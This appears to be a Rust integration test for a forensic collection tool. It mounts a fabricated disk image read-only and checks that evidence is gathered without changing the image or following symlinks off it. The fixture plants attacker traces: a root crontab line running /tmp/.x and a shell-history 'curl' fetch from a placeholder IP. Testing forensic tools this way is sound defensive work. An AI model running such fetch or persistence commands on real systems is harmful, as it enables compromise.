//! A dead disk: an image mounted read-only, collected from by the command and with a kit, under the disk's own name.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::{
    ffi::OsString,
    fs,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::Command,
};

use evidence::digest::Digest;
use fieldseal_tests::{
    args, kit,
    programs::{self, Outcome, Programs},
};

const SECRET: &str = "of the machine that examines";

fn quiet(_: &str) {}

/// A disk with a system on it, mounted read-only where this user may mount, and a plain folder elsewhere.
struct Disk {
    image: Option<PathBuf>,
    root: PathBuf,
}

impl Disk {
    fn new(dir: &Path) -> Self {
        let tree = dir.join("tree");
        let put = |path: &str, text: &str| {
            let path = tree.join(path);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        };
        put("usr/lib/os-release", "PRETTY_NAME=\"Old System 9\"\n");
        put("etc/hostname", "dead-1\n");
        put("etc/machine-id", "0123456789abcdef0123456789abcdef\n");
        put("etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
        put("etc/crontab", "* * * * * root /tmp/.x\n");
        put("home/ann/.bash_history", "curl http://192.0.2.1/x\n");
        put("var/log/auth.log", "Accepted password for ann\n");
        // A disk that says of itself what must not be looked at.
        put(
            "proc/self/mountinfo",
            "1 2 0:1 / /home/ann rw - nfs server:/x rw\n",
        );
        fs::write(dir.join("outside"), SECRET).unwrap();
        symlink("/usr/lib/os-release", tree.join("etc/os-release")).unwrap();
        symlink(dir.join("outside"), tree.join("var/log/syslog")).unwrap();
        symlink(dir.join("outside"), tree.join("etc/hosts")).unwrap();
        Self::mounted(dir, &tree).unwrap_or(Self {
            image: None,
            root: tree,
        })
    }

    fn mounted(dir: &Path, tree: &Path) -> Option<Self> {
        let (image, root) = (dir.join("disk.img"), dir.join("mnt"));
        fs::File::create(&image).unwrap().set_len(16 << 20).unwrap();
        let mut made = Command::new("/sbin/mke2fs");
        made.args(["-q", "-t", "ext4", "-d"]).arg(tree).arg(&image);
        assert!(made.status().unwrap().success());
        fs::create_dir(&root).unwrap();
        let mut mount = Command::new("mount");
        mount.args(["-o", "loop,ro,noload"]).arg(&image).arg(&root);
        let is_mounted = rustix::process::geteuid().is_root() && mount.status().unwrap().success();
        is_mounted.then_some(Self {
            image: Some(image),
            root,
        })
    }

    fn digest(&self) -> Option<Digest> {
        let image = self.image.as_ref()?;
        Some(Digest::of(&fs::read(image).unwrap()))
    }
}

impl Drop for Disk {
    fn drop(&mut self) {
        if self.image.is_some() {
            let _ = Command::new("umount").arg(&self.root).status();
        }
    }
}

fn agent(programs: &Programs, arguments: &[OsString]) -> Outcome {
    let mut command = Command::new(programs.path("fieldseal-agent"));
    programs::run(command.args(arguments), &quiet).unwrap()
}

#[test]
fn an_image_is_collected_from_with_the_same_profile_and_nothing_is_changed_on_it() {
    let dir = tempfile::tempdir().unwrap();
    let disk = Disk::new(dir.path());
    let before = disk.digest();
    let programs = Programs::build().unwrap();
    let output = dir.path().join("out");
    let common = args![
        "collect",
        "--root",
        disk.root,
        "--profile",
        "triage",
        "--unencrypted"
    ];
    let with = |more: &[OsString]| [&common[..], more].concat();

    let refused = agent(&programs, &with(&args!["--output", disk.root.join("var")]));
    assert_eq!(refused.code, 64, "{refused:?}");
    assert!(
        refused.err.contains("nothing is written there"),
        "{refused:?}"
    );

    if rustix::process::geteuid().is_root() {
        let other = dir.path().join("other");
        fs::create_dir(&other).unwrap();
        let bound = Command::new("mount")
            .arg("--bind")
            .arg(&disk.root)
            .arg(&other)
            .status();
        assert!(bound.unwrap().success());
        let refused = agent(&programs, &with(&args!["--output", other.join("var")]));
        assert!(
            Command::new("umount")
                .arg(&other)
                .status()
                .unwrap()
                .success()
        );
        assert_eq!(refused.code, 64, "by another name: {refused:?}");
    }

    let done = agent(&programs, &with(&args!["--output", output, "--json"]));
    assert_eq!(done.code, 2, "{done:?}");
    let folder = PathBuf::from(kit::json(&done.out).unwrap()["folder"].as_str().unwrap());
    let opened = dir.path().join("opened");
    let mut open = Command::new(programs.path("fieldseal"));
    open.arg("open").arg(&folder).arg("--extract").arg(&opened);
    let open = programs::run(&mut open, &quiet).unwrap();
    assert_eq!(open.code, 0, "{open:?}");
    let mut verify = Command::new(programs.path("fieldseal"));
    verify.arg("verify").arg(&folder);
    let verified = programs::run(&mut verify, &quiet).unwrap();
    assert_eq!(verified.code, 2, "only the signer is unknown: {verified:?}");
    for said in [
        "dead-1",
        "Old System 9",
        "0123456789abcdef",
        "Read from a dead disk",
    ] {
        assert!(verified.out.contains(said), "{said}: {verified:?}");
    }

    let text = every_text_below(&opened);
    assert!(
        text.contains("curl http://192.0.2.1/x"),
        "the history is there"
    );
    assert!(
        text.contains("Accepted password for ann"),
        "the log is there"
    );
    assert!(!text.contains(SECRET), "a link has led out of the disk");
    assert!(text.contains("\"not_applicable\""));
    assert_eq!(disk.digest(), before);
}

fn every_text_below(folder: &Path) -> String {
    let texts = kit::files(folder)
        .unwrap()
        .into_iter()
        .map(|file| fs::read(file).unwrap());
    texts
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
        .collect()
}

#[test]
fn a_kit_collects_from_a_disk_under_the_name_that_the_disk_has() {
    let dir = tempfile::tempdir().unwrap();
    let disk = Disk::new(dir.path());
    let stage = kit::stage(&dir.path().join("stage")).unwrap();
    let stick = dir.path().join("stick");
    let more = args!["--profile", "triage", "--host", "dead-1", "--output", stick];
    let built = kit::build(&stage, &more).unwrap();
    assert_eq!(built.code, 0, "{built:?}");
    let elsewhere = kit::collect(&stick, &["--json"]).unwrap();
    assert_eq!(elsewhere.code, 1, "this host is another: {elsewhere:?}");
    let root = disk.root.to_str().unwrap();
    kit::whole(&kit::collect(&stick, &["--json", "--root", root]).unwrap()).unwrap();

    let imported = kit::import(&stage, &stick, &[]).unwrap();
    assert_eq!(imported.code, 0, "{imported:?}");
    let listed = stage.fieldseal(&args!["list"]).unwrap();
    assert!(listed.out.contains("dead-1"), "{listed:?}");
}
